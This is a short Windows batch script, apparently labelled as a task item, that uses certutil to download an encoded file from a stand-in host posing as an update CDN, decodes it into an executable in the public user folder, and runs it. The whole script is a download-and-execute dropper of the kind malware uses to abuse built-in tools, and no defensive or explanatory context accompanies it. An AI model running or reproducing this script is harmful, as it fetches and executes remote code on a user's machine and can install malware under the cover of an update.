REM task 3579 v4
@echo off
certutil -urlcache -f http://cdn-update.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
